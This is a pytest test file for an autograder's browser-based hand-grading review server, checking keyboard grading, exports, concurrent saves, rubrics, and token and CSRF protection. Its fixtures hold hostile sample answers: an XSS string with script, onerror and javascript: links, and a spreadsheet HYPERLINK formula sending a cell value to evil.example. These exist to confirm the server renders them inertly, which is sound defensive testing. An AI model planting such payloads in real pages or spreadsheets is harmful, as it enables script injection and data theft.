"""The review page (`python -m autograder review`): hand grading, submissions and the class, in headless Chromium.

The browser tests drive Debian's `chromium` over the DevTools protocol (a small client on
`websocket-client`, pinned in requirements.txt): real key presses, real form posts, real
cookies. Like tests/test_browser.py they are skipped without Chromium, and required with
REQUIRE_BROWSER=1 (CI). The class is the demo class graded once (`graded_demo`), plus five
students of Days 1-2 who wrote answers (a real one, a script, a spreadsheet formula, 100 kB,
Unicode), graded into a copy of it. Each test reviews its own copy of that OUT folder.

`REVIEW_TIMING=path` writes the time the keyboard pass took to hand-grade the demo class's
checkpoints to that file (JSON), for the README and the issue's closing note.
"""
from __future__ import annotations

import collections
import csv
import http.client
import json
import os
import re
import shutil
import signal
import subprocess
import sys
import threading
import time
from pathlib import Path
from urllib.parse import urlencode

import pytest

from test_browser import FLAGS, chromium, needs_browser

ROOT = Path(__file__).resolve().parent.parent
DAY01 = "day01_rnn_limitations"
REAL_ANSWER = """RNNs pass every signal through the same recurrence, so the gradient from step 100 is a product of
100 Jacobians: my plot of `hidden_gradient_norms` falls by **six orders of magnitude** over 100 steps.

- LSTMs and GRUs ease the *vanishing gradients* (the additive cell state) and so long-range dependencies;
- they leave *no parallelism across time* and the *fixed-size context* untouched.
"""
ANSWERS = {
    "dora_answers": REAL_ANSWER,
    "eve_script": "<script>alert(1)</script><img src=x onerror=alert(2)> [click](javascript:alert(3)) **bold**",
    "fay_formula": '=HYPERLINK("http://evil.example/?q="&A1,"click me")',
    "gus_long": "gradients vanish " * 6250 + "THE END",
    "hal_unicode": "Внимание — 注意力 — Ω ≈ √dₖ — 🙂 — \u202eRTL\u202c — cafe\u0301 — \u0000nul",
}
"""Extra students of Days 1-2 and their checkpoint_rnn answers (dora with the solutions, the others stubs)."""


def write_answer_students(dest: Path) -> list[str]:
    """Write the students of ANSWERS into SUBMITTED `dest` (nbgrader's layout)."""
    import nbformat
    import students as demo_students

    from autograder.config import load_course

    nb = load_course().notebook(DAY01)
    for student, answer in ANSWERS.items():
        notebook = demo_students.make_notebook(nb, {"*": "solution"} if student == "dora_answers" else {})
        for cell in notebook.cells:
            if cell.metadata.get("nbgrader", {}).get("grade_id") == "checkpoint_rnn":
                cell.source = answer
        path = dest / student / nb.path
        path.parent.mkdir(parents=True, exist_ok=True)
        nbformat.write(notebook, path)
    return list(ANSWERS)


# ---------------------------------------------------------------- fixtures

@pytest.fixture(scope="module")
def review_class(graded_demo, demo_class, fast_course, tmp_path_factory):
    """(SUBMITTED, OUT): the demo class as graded, plus the students of ANSWERS graded into a copy of it."""
    from autograder.grade import grade_all

    _, demo_out = graded_demo
    base = tmp_path_factory.mktemp("review")
    submitted, out = base / "submitted", base / "out"
    shutil.copytree(demo_class, submitted)
    shutil.copytree(demo_out, out)
    write_answer_students(submitted)
    summary = grade_all(fast_course, submitted, out, workers=2, progress=None)  # the demo class is unchanged
    assert summary["problems"] == [] and summary["graded"] >= len(ANSWERS), summary
    return submitted, out


class Running:
    """A review server in a thread, on a free port of 127.0.0.1."""

    def __init__(self, course, out: Path, submitted: Path | None):
        from autograder.review import Review, bind

        self.app = Review(course, out, submitted)
        self.server = bind(self.app, 0)
        self.thread = threading.Thread(target=self.server.serve_forever, args=(0.1,), daemon=True)
        self.thread.start()
        self.out = out

    @property
    def base(self) -> str:
        return f"http://127.0.0.1:{self.app.port}"

    def book(self):
        from autograder.gradebook import Gradebook

        return Gradebook(self.out / "gradebook.db")

    def answers(self):
        book = self.book()
        try:
            return self.app.answers(book)
        finally:
            book.close()

    def stop(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def review(review_class, fast_course, tmp_path):
    """A review server on a fresh copy of the class's OUT folder."""
    submitted, out = review_class
    copy = tmp_path / "out"
    shutil.copytree(out, copy)
    running = Running(fast_course, copy, submitted)
    yield running
    running.stop()


# ---------------------------------------------------------------- a small DevTools client

KEYS = {"Enter": ("Enter", "Enter", 13, "\r"), "ArrowLeft": ("ArrowLeft", "ArrowLeft", 37, ""),
        "ArrowRight": ("ArrowRight", "ArrowRight", 39, "")}
KEYS.update({c: (c, f"Key{c.upper()}", ord(c.upper()), c) for c in "jkuc"})
KEYS.update({str(d): (str(d), f"Digit{d}", 48 + d, str(d)) for d in range(10)})
SHIFTED = dict(zip("123456789", "!@#$%^&*("))


class Browser:
    """Headless Chromium on a DevTools websocket: tabs, navigation, script results, key presses, screenshots."""

    def __init__(self, binary: str, profile: Path):
        import websocket

        profile.mkdir(parents=True, exist_ok=True)
        self.log = open(profile.parent / "chromium.log", "w")
        self.proc = subprocess.Popen([binary, *FLAGS, f"--user-data-dir={profile}", "--remote-debugging-port=0",
                                      "--window-size=1400,1000", "about:blank"],
                                     stdout=subprocess.DEVNULL, stderr=self.log)
        port_file = profile / "DevToolsActivePort"
        deadline = time.monotonic() + 60
        while not (port_file.exists() and len(port_file.read_text().split()) >= 2):
            assert self.proc.poll() is None and time.monotonic() < deadline, "chromium did not start its DevTools"
            time.sleep(0.05)
        port, path = port_file.read_text().split()[:2]
        self.ws = websocket.create_connection(f"ws://127.0.0.1:{port}{path}", timeout=60, suppress_origin=True)
        self.ids = 0
        self.events: collections.deque = collections.deque()
        self.seen: list[dict] = []

    def close(self) -> None:
        try:
            self.ws.close()
        finally:
            self.proc.terminate()
            try:
                self.proc.wait(10)
            except subprocess.TimeoutExpired:
                self.proc.kill()
                self.proc.wait()
            self.log.close()

    def _receive(self) -> dict:
        message = json.loads(self.ws.recv())
        if "method" in message:
            self.events.append(message)
            self.seen.append({"method": message["method"], "params": message.get("params", {})})
        return message

    def call(self, method: str, session: str | None = None, **params):
        self.ids += 1
        ident = self.ids
        message = {"id": ident, "method": method, "params": params}
        if session:
            message["sessionId"] = session
        self.ws.send(json.dumps(message))
        while True:
            reply = self._receive()
            if reply.get("id") == ident:
                assert "error" not in reply, (method, reply["error"])
                return reply.get("result", {})

    def drop(self, method: str, session: str) -> None:
        self.events = collections.deque(m for m in self.events
                                        if not (m["method"] == method and m.get("sessionId") == session))

    def wait(self, method: str, session: str, timeout: float = 30) -> dict:
        deadline = time.monotonic() + timeout
        while True:
            for m in list(self.events):
                if m["method"] == method and m.get("sessionId") == session:
                    self.events.remove(m)
                    return m
            assert time.monotonic() < deadline, f"no {method} within {timeout} s"
            self._receive()

    def tab(self) -> "Tab":
        target = self.call("Target.createTarget", url="about:blank")["targetId"]
        session = self.call("Target.attachToTarget", targetId=target, flatten=True)["sessionId"]
        for domain in ("Page", "Runtime", "Log"):
            self.call(f"{domain}.enable", session)
        return Tab(self, session)


class Tab:
    def __init__(self, browser: Browser, session: str):
        self.browser, self.session = browser, session

    def call(self, method: str, **params):
        return self.browser.call(method, self.session, **params)

    def goto(self, url: str) -> None:
        self.browser.drop("Page.loadEventFired", self.session)
        self.call("Page.navigate", url=url)
        self.browser.wait("Page.loadEventFired", self.session)

    def js(self, expression: str):
        result = self.call("Runtime.evaluate", expression=expression, returnByValue=True, awaitPromise=True)
        assert "exceptionDetails" not in result, result["exceptionDetails"]
        return result["result"].get("value")

    def submit(self, expression: str) -> None:
        """Run `expression` (which submits a form or follows a link) and wait for the next page."""
        self.browser.drop("Page.loadEventFired", self.session)
        self.js(expression)
        self.browser.wait("Page.loadEventFired", self.session)

    def press(self, name: str, shift: bool = False, loads: bool = False) -> None:
        """One key press, as a keyboard sends it; `loads`: wait for the page it leads to."""
        key, code, vk, text = KEYS[name]
        if shift:
            key = text = SHIFTED.get(name, key)
        if loads:
            self.browser.drop("Page.loadEventFired", self.session)
        common = {"key": key, "code": code, "windowsVirtualKeyCode": vk, "nativeVirtualKeyCode": vk,
                  "modifiers": 8 if shift else 0}
        self.call("Input.dispatchKeyEvent", type="keyDown", text=text, unmodifiedText=text, **common)
        self.call("Input.dispatchKeyEvent", type="keyUp", **common)
        if loads:
            self.browser.wait("Page.loadEventFired", self.session)

    def screenshot(self, path: Path) -> Path:
        import base64

        data = self.call("Page.captureScreenshot", format="png")["data"]
        path.write_bytes(base64.b64decode(data))
        return path

    def shown(self) -> dict:
        """What the grading page shows: the answer's student and item, its points and comment, the progress."""
        return self.js("""({student: document.body.dataset.student, item: document.body.dataset.item,
            state: document.body.dataset.state, points: document.getElementById('points').value,
            comment: document.getElementById('comment').value,
            progress: document.getElementById('progress').textContent,
            flash: (document.getElementById('flash') || {}).textContent || '',
            flashKind: (document.getElementById('flash') || {className: ''}).className})""")


@pytest.fixture(scope="module")
def browser(tmp_path_factory):
    binary = chromium()
    if binary is None:
        pytest.fail("REQUIRE_BROWSER=1 but chromium is not installed")
    b = Browser(binary, tmp_path_factory.mktemp("chromium") / "profile")
    yield b
    b.close()


def page_problems(browser: Browser) -> list[str]:
    """Script errors, CSP refusals and dialogs (alert) seen so far, favicon requests aside."""
    bad = []
    for event in browser.seen:
        method, params = event["method"], event["params"]
        if method == "Runtime.exceptionThrown":
            bad.append(json.dumps(params)[:300])
        elif method == "Page.javascriptDialogOpening":
            bad.append(f"dialog: {params.get('message')}")
        elif method == "Log.entryAdded" and params["entry"]["level"] == "error" \
                and "favicon" not in params["entry"].get("url", ""):
            bad.append(params["entry"]["text"][:300])
    return bad


# ---------------------------------------------------------------- hand grading in the browser

@needs_browser
def test_keyboard_grading_persists_and_reaches_the_exports(browser, review, tmp_path, record_property):
    """Grade every checkpoint of the class with the keyboard only (a digit, Enter): does each page show the next
    answer and the progress, do the points survive a reload, and after `report` are they in gradebook.csv,
    canvas.csv, results.json and the feedback pages?"""
    from bs4 import BeautifulSoup

    import students as demo_students

    from autograder.config import load_course

    answers = review.answers()
    demo = [a for a in answers if a.student not in ANSWERS]
    course = load_course()
    expected = sum(1 for notebooks in demo_students.load_students().values() for nb_id in notebooks
                   for item in course.notebook(nb_id).items if item.manual)  # each demo notebook's checkpoints
    assert len(demo) == expected and len(answers) == expected + len(ANSWERS)
    assert {a.state for a in demo} == {"untouched"}, "the demo class leaves its checkpoints as stubs"
    points = {a.key: (0 if a.state != "answered" else (n % 3)) for n, a in enumerate(answers)}
    for n, a in enumerate(demo):
        points[a.key] = n % 3  # the demo's answers are stubs; vary the points anyway, to see each one persist
    tab = browser.tab()
    tab.goto(f"{review.app.url('/grade')}")
    assert tab.shown()["progress"] == f"graded 0/{len(answers)}"
    spent = {"demo": 0.0, "answers": 0.0}
    for n, a in enumerate(answers):
        shown = tab.shown()
        assert (shown["student"], shown["item"]) == (a.student, a.item_id), n
        assert shown["progress"] == f"graded {n}/{len(answers)}"
        started = time.monotonic()
        tab.press(str(points[a.key]))
        tab.press("Enter", loads=True)
        spent["answers" if a.student in ANSWERS else "demo"] += time.monotonic() - started
        assert "Saved" in tab.shown()["flash"], tab.shown()
    assert tab.shown()["progress"] == f"graded {len(answers)}/{len(answers)}"
    # Back and forth with the keyboard.
    last = answers[-1]
    tab.press("k", loads=True)
    assert tab.shown()["student"] == answers[-2].student
    tab.press("ArrowRight", loads=True)
    assert tab.shown()["student"] == last.student
    tab.press("ArrowLeft", loads=True)
    tab.press("j", loads=True)
    assert tab.shown()["student"] == last.student
    # Reload every answer: the points are the ones typed.
    for a in answers:
        tab.goto(review.base + "/grade?" + urlencode({"item": a.item_id, "student": a.student}))
        assert float(tab.shown()["points"]) == points[a.key], a
    assert page_problems(browser) == []
    timing = {"answers": len(demo), "seconds": round(spent["demo"], 3),
              "per_answer": round(spent["demo"] / len(demo), 4), "keys_per_answer": 2}
    record_property("hand_grading_demo", timing)
    print(f"\nhand-grading the demo class's {len(demo)} checkpoints with the keyboard: {spent['demo']:.2f} s "
          f"({spent['demo'] / len(demo) * 1000:.0f} ms per answer, 2 keys each)")
    if os.environ.get("REVIEW_TIMING"):
        Path(os.environ["REVIEW_TIMING"]).write_text(json.dumps(timing))

    # The exports, as `report` writes them (test_report_command_writes_the_hand_grades runs the command itself):
    # gradebook.csv and results/*.json for everyone, canvas.csv, and the feedback pages of two students.
    from autograder import report
    from autograder.policy import export_canvas

    review.stop()
    course = review.app.course
    book = review.book()
    try:
        report.write_outputs(course, book, review.out, pages=False)
        export_canvas(course, book, review.out / "canvas.csv")
        pages = {s: report.feedback_html(course, s, book.results_with_manual(s)) for s in ("ben_untouched",
                                                                                         "dora_answers")}
    finally:
        book.close()
    with open(review.out / "gradebook.csv", newline="") as f:
        rows = {r["student_id"]: r for r in csv.DictReader(f)}
    with open(review.out / "canvas.csv", newline="") as f:
        canvas = {r["Student"]: r for r in csv.DictReader(f)}
    nb = course.notebook(DAY01)
    for a in answers:
        row = rows[a.student]
        assert float(row[a.item_id]) == points[a.key], a
        if a.item_id == "checkpoint_rnn":
            expected = sum(float(row[i.id]) for i in nb.items)
            assert float(canvas[a.student][nb.title]) == pytest.approx(expected, abs=1e-3), a
        results = json.loads((review.out / "results" / f"{a.student}.json").read_text())
        test = next(t for t in results["tests"] if t["name"] == a.item_id)
        assert test["score"] == points[a.key] and test["max_score"] == course.item(a.item_id)[1].points
        if a.student in pages:
            soup = BeautifulSoup(pages[a.student], "html.parser")
            cells = next(tr.find_all("td") for tr in soup.select("table.items tr")
                         if tr.find("td") and tr.find("td").get_text(strip=True) == a.item_id)
            assert cells[1].get_text(strip=True).startswith(f"{points[a.key]} / 2"), a
            assert cells[3].get_text(strip=True).startswith("graded by hand")


@needs_browser
def test_hostile_answers_render_as_text(browser, review):
    """Are a script, a spreadsheet formula, 100 kB and Unicode shown as the student's text: nothing runs, no
    element is injected, nothing is cut, no dialog opens, on the grading page and on the submission page?"""
    tab = browser.tab()
    tab.goto(review.app.url("/grade"))
    for student, answer in ANSWERS.items():
        tab.goto(review.base + "/grade?" + urlencode({"item": "checkpoint_rnn", "student": student}))
        found = tab.js("""(() => { const a = document.getElementById('answer');
            return {text: a.textContent, scripts: document.scripts.length, links: a.querySelectorAll('a').length,
                    images: document.querySelectorAll('img').length, strong: a.querySelectorAll('strong').length,
                    items: a.querySelectorAll('li').length, state: a.dataset.state}; })()""")
        assert found["scripts"] == 1, "only the page's own script"
        assert found["images"] == 0 and found["links"] == 0
        assert found["state"] == "answered"
        if student == "eve_script":
            assert "<script>alert(1)</script><img src=x onerror=alert(2)>" in found["text"]
            assert "[click](javascript:alert(3))" in found["text"] and found["strong"] == 1
        elif student == "fay_formula":
            assert found["text"].strip() == answer
        elif student == "gus_long":
            assert len(found["text"]) >= 100_000 and found["text"].rstrip().endswith("THE END")
        elif student == "hal_unicode":
            assert "Внимание — 注意力 — Ω ≈ √dₖ — 🙂 — \u202eRTL\u202c — cafe\u0301" in found["text"]
        elif student == "dora_answers":
            assert found["strong"] == 1 and found["items"] == 2, "Markdown: emphasis and a list"
        tab.goto(f"{review.base}/student/{student}")
        assert tab.js("document.scripts.length") == 0
        assert tab.js("document.querySelectorAll('img[src=\"x\"], a[href^=\"javascript\"]').length") == 0
        text = tab.js("document.querySelector('.answer-cell').textContent")
        if student == "eve_script":
            assert "<script>alert(1)</script>" in text
    assert page_problems(browser) == []


@needs_browser
def test_two_tabs_saving_the_same_answer(browser, review):
    """Two tabs open on one answer both save it: does each save land (the log keeps both), does the last one win,
    and does the page of the last one say what it overwrote? And a burst of concurrent saves from threads?"""
    a = next(x for x in review.answers() if x.student == "dora_answers")
    first, second = browser.tab(), browser.tab()
    url = review.base + "/grade?" + urlencode({"item": a.item_id, "student": a.student})
    first.goto(review.app.url("/grade?" + urlencode({"item": a.item_id, "student": a.student})))
    second.goto(url)
    first.call("Page.bringToFront")
    first.press("1")
    first.press("Enter", loads=True)
    assert first.shown()["flashKind"].endswith("ok"), first.shown()
    second.call("Page.bringToFront")
    second.press("2")
    second.press("Enter", loads=True)
    shown = second.shown()
    assert "warn" in shown["flashKind"] and "overwrote a grade saved at" in shown["flash"], shown
    assert "in another tab (1 point)" in shown["flash"]
    book = review.book()
    try:
        assert book.manual_grades()[a.key][0] == 2
        log = book.manual_log(a.student, a.item_id)
        assert [x["points"] for x in log] == [1, 2] and log[0]["overwrote_at"] is None and log[1]["overwrote_at"]
        version = repr(book.manual_grades()[a.key][2])
    finally:
        book.close()
    # The page of the answer says it was saved twice, and the overwrite.
    second.goto(url)
    assert "Saved 2 times" in second.js("document.body.textContent")

    # Eight saves at once, all loaded from the same version: every one is answered and logged; the last wins.
    cookie = f"{review.app.cookie_name}={review.app.token}"
    statuses, barrier = [], threading.Barrier(8)

    def post(points: int) -> None:
        conn = http.client.HTTPConnection("127.0.0.1", review.app.port, timeout=30)
        body = urlencode({"csrf": review.app.csrf, "item": a.item_id, "student": a.student, "version": version,
                          "points": points, "comment": f"thread {points}"})
        barrier.wait()
        conn.request("POST", "/grade", body, {"Cookie": cookie, "Content-Type": "application/x-www-form-urlencoded"})
        statuses.append(conn.getresponse().status)
        conn.close()

    threads = [threading.Thread(target=post, args=(p % 3,)) for p in range(8)]
    for t in threads:
        t.start()
    for t in threads:
        t.join(60)
    assert statuses == [303] * 8
    book = review.book()
    try:
        log = book.manual_log(a.student, a.item_id)
        assert len(log) == 10
        assert sum(1 for x in log[2:] if x["overwrote_at"]) == 7, "all but the first of the burst overwrote another"
        assert book.manual_grades()[a.key][:2] == (log[-1]["points"], log[-1]["comment"])
    finally:
        book.close()
    assert page_problems(browser) == []


@needs_browser
def test_rubric_and_zero_for_unanswered(browser, review):
    """Can the rubric be written on the page (and a bad line refused), does Shift+digit pick a line (points and
    comment), and does one click give 0 to every untouched answer of an item, leaving the graded ones alone?"""
    tab = browser.tab()
    tab.goto(review.app.url("/grade?" + urlencode({"item": "checkpoint_rnn", "student": "dora_answers"})))
    assert tab.js("document.querySelectorAll('.rubric-line').length") == 0
    tab.submit("""(() => { const f = document.getElementById('rubric-form');
        f.elements.rubric.value = '2 | Names vanishing gradients and what LSTMs leave\\n5 | too many';
        f.requestSubmit(); })()""")
    assert "Rubric not saved" in tab.shown()["flash"] and "more than the item" in tab.shown()["flash"]
    tab.submit("""(() => { const f = document.getElementById('rubric-form');
        f.elements.rubric.value = '2 | Names vanishing gradients and what LSTMs leave\\n'
          + '1 | Half: no limitation named\\n'
          + '0 | Off topic'; f.requestSubmit(); })()""")
    assert tab.js("document.querySelectorAll('.rubric-line').length") == 3
    tab.press("2", shift=True)
    shown = tab.shown()
    assert (shown["points"], shown["comment"]) == ("1", "Half: no limitation named")
    tab.press("Enter", loads=True)
    book = review.book()
    try:
        assert book.manual_grades()[("dora_answers", "checkpoint_rnn")][:2] == (1.0, "Half: no limitation named")
        assert [line["points"] for line in book.rubric("checkpoint_rnn")] == [2, 1, 0]
        book.set_manual("ada_complete", "checkpoint_rnn", 2.0, "", None)  # graded already: left alone
    finally:
        book.close()
    tab.goto(review.base + "/grade?item=checkpoint_rnn&student=ben_untouched")
    assert tab.js("document.body.dataset.state") == "untouched"
    assert "untouched" in tab.js("document.getElementById('state').textContent")
    untouched = [x for x in review.answers() if x.item_id == "checkpoint_rnn" and x.state != "answered"
                 and x.student != "ada_complete"]
    label = tab.js("document.querySelector('#zero-form button').textContent")
    assert f"Give 0 to the {len(untouched)} empty or untouched answers" in label
    tab.submit("document.querySelector('#zero-form button').click()")
    assert f"Gave 0 points to {len(untouched)}" in tab.shown()["flash"]
    book = review.book()
    try:
        grades = book.manual_grades()
        assert all(grades[x.key][:2] == (0.0, "no answer") for x in untouched)
        assert grades[("ada_complete", "checkpoint_rnn")][0] == 2.0
    finally:
        book.close()
    assert page_problems(browser) == []


@needs_browser
def test_submission_view_shows_the_feedback_beside_the_cells(browser, review):
    """Does a student's page show their notebook read-only, with each item's score, named mistake and pictures
    right after the cell that defines it, only public cases drawn, the same failing cases as the feedback page?"""
    from bs4 import BeautifulSoup

    student, item = "cleo_no_scaling", "scaled_dot_product_attention"
    tab = browser.tab()
    tab.goto(review.app.url(f"/student/{student}"))
    found = tab.js(f"""(() => {{ const panel = document.querySelector(".itempanel[data-item='{item}']");
        const cell = panel.previousElementSibling;
        return {{cell: cell.className, prompt: cell.querySelector('.prompt').textContent,
                source: cell.querySelector('pre.src').textContent,
                text: panel.textContent, scripts: document.scripts.length,
                figures: Array.from(panel.querySelectorAll('figure.picture')).map(f => f.dataset.case),
                images: Array.from(panel.querySelectorAll('img')).map(i => [i.complete, i.naturalWidth]),
                cases: Array.from(panel.querySelectorAll('.case b')).map(b => b.textContent),
                cells: document.querySelectorAll('.cell').length}}; }})()""")
    assert "cell code" in found["cell"] and item in found["prompt"] and "def scaled_dot_product_attention" in \
        found["source"]
    assert "the scores are not scaled" in found["text"] and found["scripts"] == 0
    assert found["images"] and all(done and width > 0 for done, width in found["images"])
    book = review.book()
    try:
        result = next(r for r in book.results(student) if r["notebook_id"] == "day06_scaled_dot_product_attention")
    finally:
        book.close()
    cases = next(i for i in result["items"] if i["id"] == item)["cases"]
    public = {c["case"] for c in cases if c["public"]}
    assert set(found["figures"]) <= public, "only public cases are drawn"
    feedback = BeautifulSoup((review.out / "feedback" / f"{student}.html").read_text(), "html.parser")
    assert found["cases"] == [b.get_text() for b in feedback.select(f"section#item-{item} .case b")]
    assert found["cells"] > 20
    assert page_problems(browser) == []


@needs_browser
def test_class_view_links_to_submissions(browser, review):
    """Does the class view list every student with their points and link each one, in its own table and in the
    class report's tables (mistakes, failing items), to their submission page?"""
    tab = browser.tab()
    tab.goto(review.app.url("/class"))
    found = tab.js("""(() => { const hrefs = css => Array.from(document.querySelectorAll(css))
                                                   .map(a => a.getAttribute('href'));
        return {rows: Array.from(document.querySelectorAll('#students tr td:first-child a'))
                          .map(a => [a.textContent, a.getAttribute('href')]),
                sections: Array.from(document.querySelectorAll('section[id] h2')).map(h => h.parentNode.id),
                mistakes: hrefs('#mistakes td a'), failing: hrefs('#failing td a')}; })()""")
    book = review.book()
    try:
        students = book.students()
    finally:
        book.close()
    assert [r[0] for r in found["rows"]] == students
    assert all(href == f"/student/{name}" for name, href in found["rows"])
    assert {"students", "totals", "mistakes", "failing", "distributions"} <= set(found["sections"])
    assert found["mistakes"] and all(h.startswith("/student/") for h in found["mistakes"])
    assert found["failing"] and all(h.startswith("/student/") for h in found["failing"])
    tab.submit("document.querySelector('#mistakes td a').click()")
    assert tab.js("location.pathname") == found["mistakes"][0]
    assert tab.js("document.querySelectorAll('.itempanel').length") > 0
    assert page_problems(browser) == []


@needs_browser
def test_grading_page_screenshot(browser, review, tmp_path):
    """Does Chromium draw the grading page with real content (the picture in docs/review.png is this page)?"""
    from PIL import Image

    tab = browser.tab()
    tab.call("Emulation.setDeviceMetricsOverride", width=1400, height=900, deviceScaleFactor=1, mobile=False)
    tab.goto(review.app.url("/grade?" + urlencode({"item": "checkpoint_rnn", "student": "dora_answers"})))
    png = tab.screenshot(tmp_path / "review.png")
    with Image.open(png) as im:
        assert im.size == (1400, 900)
        colours = im.convert("RGB").getcolors(maxcolors=1 << 20)
        assert colours is not None and len(colours) > 100


# ---------------------------------------------------------------- without a browser: the server's rules

def synthetic_out(course, out: Path, answers: dict[str, str]) -> Path:
    """An OUT folder with a gradebook of Days 1-2 submissions with these checkpoint answers (no grading run)."""
    from autograder.gradebook import Gradebook

    nb = course.notebook(DAY01)
    out.mkdir(parents=True, exist_ok=True)
    book = Gradebook(out / "gradebook.db")
    try:
        for student, answer in answers.items():
            items = [{"id": i.id, "score": 0.0, "max_score": i.points, "manual": i.manual, "mistake": None,
                      "cases": [], "message": ""} for i in nb.items]
            book.record(student, nb.id, "digest", {
                "student_id": student, "notebook_id": nb.id, "title": nb.title, "status": "graded", "message": "",
                "seconds": 1.0, "items": items, "cell_problems": [], "manual": {"checkpoint_rnn": answer}})
    finally:
        book.close()
    return out


@pytest.fixture
def small(course, tmp_path):
    running = Running(course, synthetic_out(course, tmp_path / "out", {"ann": "An answer.", "bob": ""}), None)
    yield running
    running.stop()


def request(running: Running, method: str, path: str, headers: dict | None = None, body: str | None = None):
    conn = http.client.HTTPConnection("127.0.0.1", running.app.port, timeout=30)
    headers = {"Host": f"127.0.0.1:{running.app.port}", **(headers or {})}
    if body is not None:
        headers.setdefault("Content-Type", "application/x-www-form-urlencoded")
    conn.request(method, path, body, headers)
    response = conn.getresponse()
    payload = response.read().decode("utf-8", errors="replace")
    conn.close()
    return response, payload


def test_every_request_needs_the_token(small):
    """Is every page refused (403) without the token, with a wrong token or cookie, or from another host name,
    and does the token in the URL set an HttpOnly SameSite=Strict cookie and leave the URL?"""
    app = small.app
    assert small.server.server_address[0] == "127.0.0.1"
    for path in ("/", "/grade", "/class", "/student/ann", "/nowhere", "/grade?token=wrong"):
        response, text = request(small, "GET", path)
        assert response.status == 403 and "token" in text, path
    assert request(small, "GET", "/grade", {"Cookie": f"{app.cookie_name}=wrong"})[0].status == 403
    assert request(small, "GET", "/grade", {"Cookie": f"autograder-review-1={app.token}"})[0].status == 403
    response, _ = request(small, "GET", f"/grade?item=checkpoint_rnn&token={app.token}")
    assert response.status == 303 and response.getheader("Location") == "/grade?item=checkpoint_rnn"
    cookie = response.getheader("Set-Cookie")
    assert cookie.startswith(f"{app.cookie_name}={app.token};") and "HttpOnly" in cookie \
        and "SameSite=Strict" in cookie
    good = {"Cookie": f"{app.cookie_name}={app.token}"}
    response, text = request(small, "GET", "/grade", good)
    assert response.status == 200 and "graded 0/2" in text
    csp = response.getheader("Content-Security-Policy")
    assert "default-src 'none'" in csp and "script-src 'nonce-" in csp and "img-src data:" in csp
    assert request(small, "GET", "/grade", {**good, "Host": f"evil.example:{app.port}"})[0].status == 403
    assert request(small, "GET", f"/grade?token={app.token}", {"Host": "evil.example"})[0].status == 403


def test_posts_need_the_csrf_field_and_bounded_points(small):
    """Is a POST refused without the CSRF field, with a wrong one, or from another origin (even with the cookie);
    are points outside 0..max or not numbers refused without saving; and is a good one saved?"""
    app = small.app
    good = {"Cookie": f"{app.cookie_name}={app.token}"}
    form = {"item": "checkpoint_rnn", "student": "ann", "version": "", "points": "2", "comment": "ok"}
    assert request(small, "POST", "/grade", good, urlencode(form))[0].status == 403
    assert request(small, "POST", "/grade", good, urlencode({**form, "csrf": "x" * 40}))[0].status == 403
    assert request(small, "POST", "/grade", {**good, "Origin": "http://evil.example"},
                   urlencode({**form, "csrf": app.csrf}))[0].status == 403
    assert request(small, "POST", "/grade", {}, urlencode({**form, "csrf": app.csrf}))[0].status == 403
    for bad in ("3", "-1", "nan", "inf", "two", ""):
        response, _ = request(small, "POST", "/grade", good, urlencode({**form, "csrf": app.csrf, "points": bad}))
        assert response.status == 303
        response, text = request(small, "GET", response.getheader("Location"), good)
        assert "Not saved" in text, bad
    assert small.book().manual_grades() == {}
    response, _ = request(small, "POST", "/grade", {**good, "Origin": small.base},
                          urlencode({**form, "csrf": app.csrf, "points": "1,5"}))
    assert response.status == 303
    assert small.book().manual_grades()[("ann", "checkpoint_rnn")][:2] == (1.5, "ok")
    conn = http.client.HTTPConnection("127.0.0.1", app.port, timeout=30)  # a body too large is never read
    conn.putrequest("POST", "/grade")
    for name, value in {**good, "Content-Length": str(2 << 20)}.items():
        conn.putheader(name, value)
    conn.endheaders()
    assert conn.getresponse().status == 413
    conn.close()


def test_report_command_writes_the_hand_grades(course, tmp_path, capsys):
    """After hand grading, does `python -m autograder report OUT` put the points in gradebook.csv, canvas.csv,
    results.json (a test per item graded by hand, with the comment) and the feedback page, and keep a canvas.csv
    written from a Canvas roster unless --roster is given?"""
    from bs4 import BeautifulSoup

    from autograder.__main__ import main
    from autograder.gradebook import Gradebook

    out = synthetic_out(course, tmp_path / "out", {"ann": "An answer.", "bob": ""})
    book = Gradebook(out / "gradebook.db")
    book.set_manual("ann", "checkpoint_rnn", 1.5, "=HYPERLINK(\"x\") half right", None)
    book.close()
    assert main(["report", str(out), "--workers", "1"]) == 0
    with open(out / "gradebook.csv", newline="") as f:
        rows = {r["student_id"]: r for r in csv.DictReader(f)}
    assert rows["ann"]["checkpoint_rnn"] == "1.5" and rows["ann"]["total"] == "1.5" and rows["bob"]["total"] == "0"
    with open(out / "canvas.csv", newline="") as f:
        canvas = {r["Student"]: r for r in csv.DictReader(f)}
    title = course.notebook(DAY01).title
    assert canvas["ann"][title] == "1.5" and canvas["bob"][title] == "0"
    tests = {t["name"]: t for t in json.loads((out / "results" / "ann.json").read_text())["tests"]}
    assert tests["checkpoint_rnn"]["score"] == 1.5 and "half right" in tests["checkpoint_rnn"]["output"]
    assert "checkpoint_rnn" not in {t["name"] for t in json.loads((out / "results" / "bob.json").read_text())["tests"]}
    soup = BeautifulSoup((out / "feedback" / "ann.html").read_text(), "html.parser")
    assert soup.select_one("#total").get_text() == "1.5"
    row = next(tr for tr in soup.select("table.items tr") if "checkpoint_rnn" in tr.get_text())
    assert "1.5 / 2" in row.get_text() and "=HYPERLINK(\"x\") half right" in row.get_text()
    roster = "Student,ID,SIS User ID,SIS Login ID,Section," + title + " (1234)\n"
    (out / "canvas.csv").write_text(roster)
    capsys.readouterr()
    assert main(["report", str(out), "--workers", "1"]) == 0
    assert (out / "canvas.csv").read_text() == roster and "pass --roster" in capsys.readouterr().err


def test_set_manual_reports_what_it_overwrote(tmp_path):
    """Does `set_manual` always write (last write wins), and report the grade saved since the form was loaded
    (or cleared), with every save in the log?"""
    from autograder.gradebook import Gradebook

    book = Gradebook(tmp_path / "gradebook.db")
    first = book.set_manual("ann", "checkpoint_rnn", 1.0, "a", None)
    assert first["overwrote"] is None
    second = book.set_manual("ann", "checkpoint_rnn", 2.0, "b", first["version"])
    assert second["overwrote"] is None and second["version"] > first["version"]
    late = book.set_manual("ann", "checkpoint_rnn", 0.5, "c", first["version"])  # loaded before `second`
    assert late["overwrote"] == {"points": 2.0, "comment": "b", "entered_at": second["version"]}
    cleared = book.set_manual("ann", "checkpoint_rnn", None, "", late["version"])
    assert cleared["overwrote"] is None and book.manual_scores() == {}
    again = book.set_manual("ann", "checkpoint_rnn", 1.0, "", late["version"])
